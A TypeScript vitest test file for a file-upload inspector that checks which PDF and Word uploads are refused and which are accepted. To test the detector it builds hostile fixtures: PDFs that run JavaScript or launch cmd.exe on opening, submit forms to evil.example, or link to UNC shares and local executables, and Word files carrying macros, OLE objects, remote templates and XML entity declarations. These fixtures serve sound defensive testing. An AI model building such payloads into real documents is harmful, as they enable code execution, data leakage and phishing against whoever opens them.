import { deflateSync } from "node:zlib";
import { expect, test } from "vitest";
import { aCompoundFile, aDocx, aDocxOf, aDocxTo, aPdfOf, aZip } from "../../../testing/uploads/hostile.ts";
import { writtenFile } from "../../../testing/uploads/written-file.ts";
import { inspectFile } from "./inspect.server.ts";

const kindOf = async (bytes: Buffer) => (await inspectFile(writtenFile(bytes))).kind;

const text = (words: string) => Buffer.from(words, "latin1");

/** These objects packed in a stream, as most programs write them. */
function aPackedStream(number: number, objects: Record<number, string>, kind = "/Type/ObjStm"): Buffer {
  const bodies = Object.values(objects);
  let at = 0;
  const list = Object.keys(objects)
    .map((key, n) => {
      const entry = `${key} ${at}`;
      at += (bodies[n]?.length ?? 0) + 1;
      return entry;
    })
    .join(" ");
  const packed = deflateSync(text(`${list}\n${bodies.join(" ")}`));
  const about = `<<${kind}/N ${bodies.length}/First ${list.length + 1}/Filter/FlateDecode/Length ${packed.length}>>`;
  return Buffer.concat([text(`${number} 0 obj\n${about}\nstream\n`), packed, text("\nendstream\nendobj\n")]);
}

const root = "<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>";
const plainRoot = "<</Type/Catalog/Pages 2 0 R>>";
const pages = "<</Type/Pages/Kids[]/Count 0>>";
const opens = (action: string) => aPdfOf(root, pages, action);
const page = (annotation: string) =>
  aPdfOf(
    plainRoot,
    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    `<</Type/Page/Parent 2 0 R/Annots[${annotation}]>>`,
  );
const link = (action: string) => page(`<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<<${action}>>>>`);
const part = { name: "word/embeddings/one.bin", bytes: text("MZ") };
const external = 'TargetMode="External"';

const active: [what: string, bytes: Buffer][] = [
  ["a PDF with a script on opening", opens("<</S/JavaScript/JS(app.alert\\(1\\))>>")],
  ["a PDF whose script has a letter by its number", opens("<</S/J#61vaScript/JS(app.alert\\(1\\))>>")],
  [
    "a PDF whose script is packed in a stream",
    aPdfOf(root, pages, aPackedStream(9, { 3: "<</S/JavaScript/JS(app.alert\\(1\\))>>" })),
  ],
  [
    "a PDF whose script is packed in a stream of no type",
    aPdfOf(root, pages, aPackedStream(9, { 3: "<</S/J#61vaScript/JS(app.alert\\(1\\))>>" }, "")),
  ],
  ["a PDF that starts a program, by numbers", opens("<</S/L#61unch/F(cmd.exe)>>")],
  [
    "a PDF that carries a file, by numbers",
    aPdfOf("<</Type/Catalog/Pages 2 0 R/Names<</#45mbeddedFiles 3 0 R>>>>", pages, "<</Names[]>>"),
  ],
  [
    "a PDF that carries a file without saying so",
    aPdfOf("<</Type/Catalog/Pages 2 0 R/AF[3 0 R]>>", pages, "<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>"),
  ],
  ["a PDF that sends its form on opening", opens("<</S/SubmitForm/F(https://evil.example)>>")],
  ["a PDF that opens an address by itself", opens("<</S/URI/URI(https://evil.example)>>")],
  [
    "a PDF that opens an address behind a turn of the page",
    opens("<</S/GoTo/D[0/Fit]/Next[3 0 R<</S/URI/URI(https://evil.example)>>]>>"),
  ],
  [
    "a PDF that opens an address when its page is shown",
    aPdfOf(plainRoot, pages, "<</Type/Page/AA<</O<</S/URI/URI(https://evil.example)>>>>>>"),
  ],
  [
    "a PDF with another action under the same number before",
    aPdfOf(root, pages, "<</S/URI/URI(https://evil.example)>>", text("3 0 obj\n[0/Fit]\nendobj\n")),
  ],
  ["a PDF with a link to a script", link("/S/URI/URI(java\\nscript:alert\\(1\\))")],
  ["a PDF with a link into somebody's machine", link("/S/URI/URI(file:///C:/Windows/calc.exe)")],
  ["a PDF with a link to a file of another machine", link("/S/GoToR/F(\\\\\\\\evil\\\\a.pdf)/D[0/Fit]")],
  ["a PDF with a film", page("<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]>>")],
  [
    "a PDF with a form that has programs of its own",
    aPdfOf("<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA[(a)3 0 R]/Fields[]>>>>", pages, "<<>>"),
  ],
  [
    "a PDF whose picture lies elsewhere",
    aPdfOf(plainRoot, pages, "<</Length 0/F(https://evil.example/a)>>\nstream\n\nendstream"),
  ],
  [
    "a document with macros, whatever their part is called",
    aDocxTo("../../../office/2006/relationships/vbaProject", "theme.bin", "", part),
  ],
  [
    "a document with a part that is macros by its type",
    aDocxOf({ bin: "application/vnd.ms-office.vbaProject" }, { name: "word/theme.bin", bytes: text("x") }),
  ],
  [
    "a document with a template from elsewhere",
    aDocxTo("attachedTemplate", "https://evil.example/a.dotm", external),
  ],
  ["a document with an OLE object", aDocxTo("oleObject", "embeddings/one.bin", "", part)],
  ["a document with a workbook in it", aDocxTo("package", "embeddings/one.bin", "", part)],
  ["an old document that carries a program", aCompoundFile(["Root", "WordDocument", "\u0001Ole10Native"])],
  [
    "a document with a part of another kind",
    aDocxOf({ bin: "application/vnd.ms-excel.sheet.macroEnabled.12" }, part),
  ],
  ["a document with a part that is of no type", aDocx(part)],
  ["a document with a picture from elsewhere", aDocxTo("image", "https://evil.example/a.png", external)],
  [
    "a document with a page in it",
    aDocxTo("aFChunk", "a.xml", "", { name: "word/a.xml", bytes: text("<a/>") }),
  ],
  ["a document with a link to a script", aDocxTo("hyperlink", "javascript&#58;alert(1)", external)],
  ["a document with a link to a file of another machine", aDocxTo("hyperlink", "\\\\evil\\a.docx", external)],
  [
    "a document that says in another namespace that a link stays inside",
    aDocxTo("image", "https://evil.example/a.png", `${external} xmlns:x="urn:x" x:TargetMode="Internal"`),
  ],
];

test.each(active)("%s is refused", async (_, bytes) => {
  await expect(kindOf(bytes)).rejects.toThrow(/can run, send or open|carries macros|carries another file/);
});

const unreadable: [what: string, bytes: Buffer, sentence: RegExp][] = [
  [
    "a PDF that is locked",
    Buffer.from(aPdfOf(plainRoot, pages).toString().replace("<</Root", "<</Encrypt 2 0 R/Root")),
    /is locked/,
  ],
  ["a PDF that nobody can open", text("%PDF-1.7\n%%EOF\n"), /not whole/],
  [
    "a PDF with an object that goes on for ever",
    aPdfOf(plainRoot, pages, `${"[".repeat(50_000)}`),
    /not whole/,
  ],
  [
    "a PDF whose stream of objects is packed in no known way",
    aPdfOf(
      plainRoot,
      pages,
      "<</Type/ObjStm/N 1/First 4/Filter/Crypt/Length 9>>\nstream\n4 0 <<>>  \nendstream",
    ),
    /not whole/,
  ],
  [
    "a document that declares what its parts may say",
    aZip([{ name: "[Content_Types].xml", bytes: text('<!DOCTYPE x [<!ENTITY a "b">]><Types/>') }]),
    /not whole/,
  ],
  [
    "a document in a script of its own",
    aZip([{ name: "[Content_Types].xml", bytes: text('<?xml version="1.0" encoding="UTF-7"?><Types/>') }]),
    /not whole/,
  ],
];

test.each(unreadable)("%s is refused, as nobody can say what it does", async (_, bytes, sentence) => {
  await expect(kindOf(bytes)).rejects.toThrow(sentence);
});

const innocent: [what: string, kind: string, bytes: Buffer][] = [
  ["a PDF with links", "pdf", link("/S/URI/URI(https://afters.app/a?b=c)")],
  ["a PDF with a link to write to", "pdf", link("/S/URI/URI(mailto:ada@afters.app)")],
  ["a PDF that opens at a place", "pdf", opens("[2 0 R/Fit]")],
  ["a PDF that opens at a place by an action", "pdf", opens("<</S/GoTo/D[0/Fit]>>")],
  [
    "a PDF with a form, contents and words of a program",
    "pdf",
    aPdfOf(
      "<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[3 0 R]>>/Outlines 4 0 R>>",
      pages,
      "<</FT/Tx/T(name)/V(/JavaScripts are words)>>",
      "<</First 5 0 R/Last 5 0 R/Count 1>>",
      "<</Title(One)/Parent 4 0 R/Dest[2 0 R/Fit]>>",
    ),
  ],
  [
    "a PDF as most programs write one",
    "pdf",
    aPdfOf(plainRoot, aPackedStream(9, { 2: pages, 3: "<</Title(A)>>" })),
  ],
  [
    "a document with a picture",
    "docx",
    aDocxTo("image", "media/one.png", "", { name: "word/media/one.png", bytes: text("x") }),
  ],
  ["a document with links", "docx", aDocxTo("hyperlink", "https://afters.app/?a=1&amp;b=2", external)],
  [
    "a document with a typeface",
    "docx",
    aDocxOf(
      { odttf: "application/vnd.openxmlformats-officedocument.obfuscatedFont" },
      { name: "word/fonts/font1.odttf", bytes: text("x") },
    ),
  ],
];

test.each(innocent)("%s is taken", async (_, kind, bytes) => {
  expect(await kindOf(bytes)).toBe(kind);
});
